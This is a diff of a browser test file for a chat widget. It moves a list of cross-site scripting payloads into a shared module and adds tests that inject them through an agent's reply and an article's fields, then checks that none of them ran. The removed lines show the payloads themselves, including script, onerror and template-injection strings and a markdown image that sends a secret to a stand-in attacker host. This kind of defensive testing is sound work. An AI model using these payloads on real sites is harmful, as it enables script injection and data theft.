@@ -1,19 +1,7 @@
 // Texts that want to be more than text.
 import assert from "node:assert/strict";
+import { payloads, unharmed } from "../payloads.mjs";
 import { answered, say } from "../stage.mjs";
-
-const payloads = [
-  "<img src=x onerror=hacked=1>", "<script>hacked=1</script>", "<svg/onload=hacked=1>", "<iframe srcdoc='<script>parent.hacked=1</script>'>",
-  "[click](javascript:hacked=1)", "<a href=\"java&#10;script:hacked=1\">x</a>", "![x](https://evil.example/?q=secret)", "<style>*{display:none}</style>",
-  "</textarea><script>hacked=1</script>", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=hacked=1&gt;\">", "{{constructor.constructor('hacked=1')()}}",
-];
-
-async function unharmed(page) {
-  await page.waitForTimeout(150);
-  assert.equal(await page.evaluate(() => window.hacked), undefined, "nothing ran");
-  const found = await page.evaluate(() => [...document.querySelector("[data-innconnect]").shadowRoot.querySelectorAll("script, iframe, object, embed, style, img, math, [onerror], [onload], .log svg:not([aria-hidden]), a[href^='javascript' i]")].map((el) => el.outerHTML));
-  assert.deepEqual(found, []);
-}
 
 export async function ofAVisitor(t) {
   await t.behind("/model", {});
@@ -49,4 +37,25 @@ export async function ofTheSitesOwner(t) {
   await t.behind("/site", ["--title", "", "--welcome", "", "--suggestion", "Can I bring my dog?"]);
   await t.behind("/site-file?flag=--texts", {});
   await t.behind("/site-file?flag=--page-suggestions", []);
+}
+
+export async function ofAnAgent(t) {
+  const page = await t.chat();
+  await page.getByRole("button", { name: "Talk to a person" }).click();
+  await page.locator(".item.system").waitFor();
+  const agent = await t.agent(page);
+  await agent("takeover");
+  await agent("reply", { content: payloads.join("\n\n"), client_message_id: "1" });
+  await page.locator(".item.agent").waitFor();
+  await unharmed(page);
+}
+
+export async function ofAnArticle(t) {
+  await t.behind("/model", { text: `See it [1].`, seconds: 0 });
+  await t.behind("/article", { id: "hostile", title: `Zeppelin ${payloads[0]}`, url: "https://havenlicht.example/zeppelin?<script>hacked=1</script>", body: `Zeppelin rides leave from the roof. ${payloads.join(" ")}` });
+  const page = await t.chat();
+  await say(page, "Where do zeppelin rides leave?");
+  await answered(page);
+  assert.match(await page.locator(".sources").innerText(), /Zeppelin/);
+  await unharmed(page);
 }
